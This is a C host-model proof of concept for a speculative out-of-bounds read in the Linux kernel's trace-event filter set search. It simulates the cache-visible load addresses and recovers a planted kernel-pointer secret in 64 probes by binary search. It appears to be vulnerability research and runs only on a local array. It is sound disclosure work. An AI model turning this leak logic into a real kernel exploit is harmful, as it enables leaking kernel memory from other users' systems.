/*
 * Host model of the compact walk's set search (int_entry_match(),
 * set_has_64() in build/linux kernel/trace/trace_events_filter.c) run
 * speculatively on an entry whose set is narrower than the case's type.
 * The "memory" is a SET_8 set of 256 bytes (bits 8, kmalloc-256) followed
 * by a neighbouring object holding a secret.  set_has_64(set, 1UL << bits,
 * key) is traced: the addresses it loads are what a cache side channel
 * sees.  We show the trace depends on (secret <= key) and recover the
 * secret with 64 chosen keys (one register value per syscall).
 */
#include <stdio.h>
#include <stdint.h>
#include <string.h>
#include <stdlib.h>

static uint8_t mem[8192] __attribute__((aligned(64)));
static uintptr_t trace[64]; static int ntrace;

static int set_has_64(const uint64_t *v, unsigned long len, uint64_t key)
{
	unsigned long half;
	for (half = len / 2; half; half /= 2) {
		trace[ntrace++] = (uintptr_t)&v[half] - (uintptr_t)mem;
		v = v[half] <= key ? v + half : v;	/* cmovae in the .o */
	}
	trace[ntrace++] = (uintptr_t)v - (uintptr_t)mem;
	return *v == key;
}

int main(void)
{
	unsigned bits = 8;			/* SET_8 of up to 256 values */
	size_t alloc = 1u << bits;		/* kmalloc_array(256, 1) */
	uint64_t secret = 0xffffffff81e4a1c0ULL; /* e.g. a kernel pointer */
	unsigned i;

	for (i = 0; i < alloc; i++) mem[i] = i;	/* the owner's sorted u8 values */
	/* neighbouring objects: fill, and the secret at set + 1024 (v[128]) */
	for (i = alloc; i < sizeof(mem); i++) mem[i] = 0x5a;
	memcpy(mem + 1024, &secret, 8);

	/* speculative FILTER_PRED_FN_SET_64 on the SET_8 entry */
	ntrace = 0;
	set_has_64((void *)mem, 1UL << bits, 0);
	printf("SET_64 on SET_8 (bits %u, alloc %zu): loads at byte offsets", bits, alloc);
	for (i = 0; i < (unsigned)ntrace; i++) printf(" %lu", (unsigned long)trace[i]);
	printf("\n  max offset read %lu, i.e. %lu bytes past the allocation\n",
	       (unsigned long)((1UL << bits) * 8 - 8 + 8), (unsigned long)((1UL << bits) * 8 - alloc));

	/* recover the secret: the 2nd load is at +1536 if secret <= key, else +512 */
	uint64_t lo = 0, hi = UINT64_MAX; int q = 0;
	while (lo < hi) {
		uint64_t mid = lo + (hi - lo) / 2;
		ntrace = 0;
		set_has_64((void *)mem, 1UL << bits, mid);
		q++;
		if (trace[1] == 1024 + 512) hi = mid;	/* secret <= mid */
		else lo = mid + 1;
	}
	printf("recovered %#llx in %d probes (%s)\n", (unsigned long long)lo, q,
	       lo == secret ? "ok" : "WRONG");
	return lo != secret;
}
